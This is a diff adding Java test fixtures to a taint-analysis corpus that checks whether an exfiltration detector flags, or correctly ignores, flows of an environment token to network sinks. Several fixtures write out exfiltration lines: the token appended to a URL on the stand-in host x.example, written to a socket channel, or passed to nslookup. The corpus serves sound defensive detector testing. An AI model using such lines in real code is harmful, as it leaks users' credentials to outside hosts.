@@ -141,6 +141,108 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        inline("a sink on a type nobody can see is matched by method name", "unresolved supertypes: receiver type missing", """
+                package PKG;
+                import org.vendorlib.transport.Channel;
+                class A {
+                    void f(Channel channel) throws Exception {
+                        channel.send(System.getenv("TOKEN")); // expect: EXFIL
+                    }
+                }
+                """);
+        viaSend("a source inherited from a supertype nobody can see is matched by method name", "unresolved supertypes: static call on a missing type", true, """
+                package PKG;
+                class A extends org.vendorlib.Platform {
+                    void f() throws Exception {
+                        String v = org.vendorlib.Platform.getenv("TOKEN");
+                        Send.dns(v);
+                    }
+                }
+                """);
+        viaSend("a fresh object's field read back after a strong update keeps the last value", "fields: per allocation, strong update", true, """
+                package PKG;
+                class Box {
+                    String value;
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        Box box = new Box();
+                        box.value = "h.example";
+                        box.value = System.getenv("TOKEN");
+                        Send.dns(box.value);
+                    }
+                }
+                """);
+        viaSend("a fresh object that escapes into a call carries its field's data there", "fields: per allocation, escape", true, """
+                package PKG;
+                class Box {
+                    String value;
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f(boolean b) throws Exception {
+                        Box box = new Box();
+                        if (b) {
+                            box.value = System.getenv("TOKEN");
+                        }
+                        g(box);
+                    }
+                    void g(Box box) throws Exception {
+                        Send.dns(box.value);
+                    }
+                }
+                """);
+        viaSend("an object whose constructor hands 'this' away is not tracked per allocation", "fields: per allocation, constructor lets this escape", true, """
+                package PKG;
+                import java.util.ArrayList;
+                import java.util.List;
+                class Box {
+                    static final List<Box> ALL = new ArrayList<>();
+                    String value;
+                    Box() {
+                        ALL.add(this);
+                    }
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        Box box = new Box();
+                        box.value = System.getenv("TOKEN");
+                    }
+                    void g() throws Exception {
+                        Send.dns(Box.ALL.get(0).value);
+                    }
+                }
+                """);
+        viaSend("a map's value read back under the constant key it was put with", "collections: constant map keys", true, """
+                package PKG;
+                import java.util.HashMap;
+                import java.util.Map;
+                class A {
+                    void f() throws Exception {
+                        Map<String, String> m = new HashMap<>();
+                        m.put("token", System.getenv("TOKEN"));
+                        m.put("host", "h.example");
+                        Send.dns(m.get("token"));
+                    }
+                }
+                """);
+        viaSend("a map entry put under a key nobody knows may be any key's value", "collections: unknown map key", true, """
+                package PKG;
+                import java.util.HashMap;
+                import java.util.Map;
+                class A {
+                    void f(String key) throws Exception {
+                        Map<String, String> m = new HashMap<>();
+                        m.put(key, System.getenv("TOKEN"));
+                        Send.dns(m.get("host"));
+                    }
+                }
+                """);
         inline("local variable", "locals", """
                 package PKG;
                 class A {
@@ -520,6 +622,56 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        inline("a channel's write sends its argument, a URL's connection its receiver", "sink payload: arguments, receiver where declared", """
+                package PKG;
+                import java.net.URL;
+                import java.nio.ByteBuffer;
+                import java.nio.channels.SocketChannel;
+                class A {
+                    void f(SocketChannel ch) throws Exception {
+                        String token = System.getenv("TOKEN");
+                        ch.write(ByteBuffer.wrap(token.getBytes())); // expect: EXFIL, from=7
+                        URL url = new URL("https://x.example/?t=" + token);
+                        url.openConnection(); // expect: EXFIL, from=7, via=9
+                    }
+                }
+                """);
+        viaSend("Formatter.format into a StringBuilder it wraps", "library effects: receiver and wrapped builder (model effects)", true, """
+                package PKG;
+                import java.util.Formatter;
+                class A {
+                    void f() throws Exception {
+                        StringBuilder sb = new StringBuilder("id-");
+                        Formatter fmt = new Formatter(sb);
+                        fmt.format("%s.example", System.getenv("TOKEN"));
+                        Send.dns(sb.toString());
+                    }
+                }
+                """);
+        viaSend("PrintWriter over a StringWriter, read back from the StringWriter", "library effects: wrapped writer (model effects)", true, """
+                package PKG;
+                import java.io.PrintWriter;
+                import java.io.StringWriter;
+                class A {
+                    void f() throws Exception {
+                        StringWriter buffer = new StringWriter();
+                        PrintWriter out = new PrintWriter(buffer);
+                        out.print(System.getenv("TOKEN"));
+                        out.flush();
+                        Send.dns(buffer.toString());
+                    }
+                }
+                """);
+        viaSend("ProcessBuilder.command(..., secret) then read back", "library effects: receiver (model effects)", true, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        ProcessBuilder pb = new ProcessBuilder();
+                        pb.command("nslookup", System.getenv("TOKEN"));
+                        Send.dns(String.join(".", pb.command()));
+                    }
+                }
+                """);
         inline("HttpClient request body", "library builders", """
                 package PKG;
                 import java.net.URI;
@@ -800,6 +952,83 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        add("unresolved supertypes: the visible class's own method body is what runs", "negative: settled by a concrete declaration", """
+                package PKG;
+                class Relay extends org.vendorlib.transport.PooledSocket {
+                    void send(String frame) {
+                    }
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f(Relay relay) throws Exception {
+                        relay.send(System.getenv("TOKEN"));
+                    }
+                }
+                """);
+        viaSend("two objects of one class keep their own fields", "negative: fields per allocation", false, """
+                package PKG;
+                class Box {
+                    String value;
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        Box secret = new Box();
+                        Box plain = new Box();
+                        secret.value = System.getenv("TOKEN");
+                        plain.value = "h.example";
+                        Send.dns(plain.value);
+                    }
+                }
+                """);
+        viaSend("a field overwritten with clean data no longer holds the secret", "negative: fields strong update", false, """
+                package PKG;
+                class Box {
+                    String value;
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        Box box = new Box();
+                        box.value = System.getenv("TOKEN");
+                        box.value = "h.example";
+                        Send.dns(box.value);
+                    }
+                }
+                """);
+        viaSend("map values under different constant keys are told apart", "negative: constant map keys", false, """
+                package PKG;
+                import java.util.HashMap;
+                import java.util.Map;
+                class A {
+                    void f() throws Exception {
+                        Map<String, String> m = new HashMap<>();
+                        m.put("token", System.getenv("TOKEN"));
+                        m.put("host", "h.example");
+                        Send.dns(m.get("host"));
+                    }
+                }
+                """);
+        viaSend("Map.of keeps each constant key's value apart; a list element overwritten by set is gone", "negative: constant keys and indexes", false, """
+                package PKG;
+                import java.util.ArrayList;
+                import java.util.List;
+                import java.util.Map;
+                class A {
+                    void f() throws Exception {
+                        Map<String, String> m = Map.of("token", System.getenv("TOKEN"), "host", "h.example");
+                        Send.dns(m.get("host"));
+                        List<String> l = new ArrayList<>();
+                        l.add("x");
+                        l.set(0, System.getenv("TOKEN"));
+                        l.set(0, "h.example");
+                        Send.dns(l.get(0));
+                    }
+                }
+                """);
         add("dispatch: another call's argument", "negative: unrelated data", """
                 package PKG;
                 interface Format {
@@ -826,6 +1055,50 @@ final class FlowCorpus {
                         fmt.apply(System.getenv("TOKEN"));
                         String host = fmt.apply("public.example");
                         java.net.InetAddress.getByName(host);
+                    }
+                }
+                """);
+        add("a channel picked by a secret key is not what a write sends", "negative: sink payload (receiver not sent)", """
+                package PKG;
+                import java.nio.ByteBuffer;
+                import java.nio.channels.SocketChannel;
+                import java.util.Map;
+                class A {
+                    void f(Map<String, SocketChannel> channels) throws Exception {
+                        String token = System.getenv("TOKEN");
+                        SocketChannel ch = channels.get(token);
+                        ch.write(ByteBuffer.wrap("hello".getBytes()));
+                        ch.write(ByteBuffer.wrap("\\n".getBytes()));
+                    }
+                }
+                """);
+        viaSend("Map.put returns the previous value, not the one put", "negative: library effects (model effects)", false, """
+                package PKG;
+                import java.util.HashMap;
+                import java.util.List;
+                import java.util.Map;
+                class A {
+                    void f(List<String> names) throws Exception {
+                        Map<String, String> seen = new HashMap<>();
+                        String previous = seen.put("token", System.getenv("TOKEN"));
+                        String old = names.set(0, System.getenv("TOKEN"));
+                        Send.dns(previous + old + ".example");
+                    }
+                }
+                """);
+        viaSend("a PrintWriter writes through to its own StringWriter, not another", "negative: library effects: wrapped writer (model effects)", false, """
+                package PKG;
+                import java.io.PrintWriter;
+                import java.io.StringWriter;
+                class A {
+                    void f() throws Exception {
+                        StringWriter kept = new StringWriter();
+                        StringWriter sent = new StringWriter();
+                        PrintWriter toKept = new PrintWriter(kept);
+                        PrintWriter toSent = new PrintWriter(sent);
+                        toKept.print(System.getenv("TOKEN"));
+                        toSent.print("public.example");
+                        Send.dns(sent.toString());
                     }
                 }
                 """);
